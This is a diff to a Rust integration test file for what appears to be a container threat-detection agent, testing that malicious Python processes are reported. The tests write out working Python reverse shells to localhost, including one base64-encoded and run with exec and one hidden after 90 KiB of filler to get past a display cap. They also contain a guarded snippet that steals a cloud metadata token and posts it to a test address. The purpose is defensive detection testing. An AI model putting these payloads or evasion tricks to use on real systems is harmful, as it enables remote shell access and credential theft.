@@ -326,20 +326,7 @@ fn python_dup2_subprocess_reverse_shell() {
 fn malicious_python_script_file_is_reported_with_its_contents() {
     let images = require_containers!();
     let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-file", |p| {
-        let body = format!(
-            "import socket, subprocess, os\n\
-             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
-             s.connect(('127.0.0.1', {p}))\n\
-             os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
-             subprocess.call(['/bin/sh', '-i'])\n"
-        );
-        sh(
-            "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/sync.py && cd /opt/job && exec python3 sync.py"
-                .to_string(),
-        )
-        .into_iter()
-        .chain([body])
-        .collect()
+        python_file_in_job_dir("sync.py", py_reverse_shell(p))
     });
     let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
     let script = &m["processes"][0]["script"];
@@ -354,6 +341,27 @@ fn malicious_python_script_file_is_reported_with_its_contents() {
         m["processes"][0]["args"],
         serde_json::json!(["python3", "sync.py"])
     );
+}
+
+/// A Python reverse shell to 127.0.0.1:`port` (socket + dup2 + `/bin/sh -i`).
+fn py_reverse_shell(port: u16) -> String {
+    format!(
+        "import socket, subprocess, os\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+         s.connect(('127.0.0.1', {port}))\n\
+         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
+         subprocess.call(['/bin/sh', '-i'])\n"
+    )
+}
+
+/// argv that writes `body` to /opt/job/`name` and runs it as `python3 name` from /opt/job.
+fn python_file_in_job_dir(name: &str, body: String) -> Vec<String> {
+    sh(format!(
+        "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/{name} && cd /opt/job && exec python3 {name}"
+    ))
+    .into_iter()
+    .chain([body])
+    .collect()
 }
 
 fn sha256_hex(b: &[u8]) -> String {
@@ -1288,4 +1296,86 @@ fn podman_names_from_disk_without_the_api_service() {
     );
     let (status, _dir) = agent.stop();
     assert!(status.success());
+}
+
+/// A `python -c` literal that would steal the cloud metadata token and post it out is reported
+/// live. The code is guarded by an environment variable that is never set, so it never runs
+/// (and the addresses are link-local / TEST-NET anyway).
+#[test]
+fn python_c_metadata_token_theft_is_reported() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = Container::builder(&images.debian)
+        .name_prefix("py-meta")
+        .run(&["sleep", "600"])
+        .unwrap();
+    let code = "import os,urllib.request\n\
+                if os.environ.get('WARD_TEST_NEVER_SET'):\n    \
+                t=urllib.request.urlopen(urllib.request.Request('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',headers={'Metadata-Flavor':'Google'})).read()\n    \
+                urllib.request.urlopen('http://198.51.100.7/c',data=t)\n";
+    c.exec_ok(&["python3", "-c", code]).unwrap();
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    assert_container(&m, &c);
+    assert_eq!(m["processes"][0]["script"]["contents"], code);
+    let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
+    assert!(reasons.contains("metadata"), "{reasons}");
+}
+
+/// A `python -c` literal that `exec`s a base64-decoded reverse shell: the shell connects to a
+/// listener on 127.0.0.1 and the python process is reported as Malicious Python.
+#[test]
+fn python_c_exec_of_base64_reverse_shell_is_reported() {
+    let images = require_containers!();
+    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-b64", |p| {
+        let inner = format!(
+            "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',{p}));\
+             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
+        );
+        vec![
+            "python3".into(),
+            "-c".into(),
+            format!(
+                "import base64;exec(base64.b64decode('{}'))",
+                ward_ml::templates::base64_encode(inner.as_bytes())
+            ),
+        ]
+    });
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    assert_container(&m, &c);
+    assert_eq!(m["processes"][0]["args"][1], "-c");
+    let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
+    assert!(reasons.contains("decoded"), "{reasons}");
+}
+
+/// A Python reverse shell appended after ~90 KiB of module data, past the 64 KiB display cap:
+/// the finding displays the capped contents, and the model scored the whole file
+/// (`ScriptInfo::scoring_text`). Before the scoring cap was separate from the display cap, the
+/// classifier saw only the filler and nothing was reported.
+#[test]
+fn python_payload_after_the_display_cap_is_reported() {
+    let images = require_containers!();
+    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-big", |p| {
+        let mut body = String::from("# Generated settings.\n");
+        let mut i = 0usize;
+        while body.len() < 90 * 1024 {
+            body.push_str(&format!(
+                "ROW_{i} = {{'name': 'item {i}', 'size': {}, 'tags': ['a{}', 'b{}']}}\n",
+                i * 7 % 1000,
+                i % 13,
+                i % 17
+            ));
+            i += 1;
+        }
+        body.push_str(&py_reverse_shell(p));
+        python_file_in_job_dir("settings.py", body)
+    });
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    let script = &m["processes"][0]["script"];
+    assert_eq!(script["path"], "settings.py");
+    let shown = script["contents"].as_str().unwrap();
+    assert_eq!(shown.len(), 64 * 1024, "the display cap still applies");
+    assert!(!shown.contains("socket"), "the payload is past the cap");
+    let written = c.exec_ok(&["cat", "/opt/job/settings.py"]).unwrap();
+    assert_eq!(script["size"], written.len());
+    assert_eq!(script["sha256"], sha256_hex(written.as_bytes()));
 }
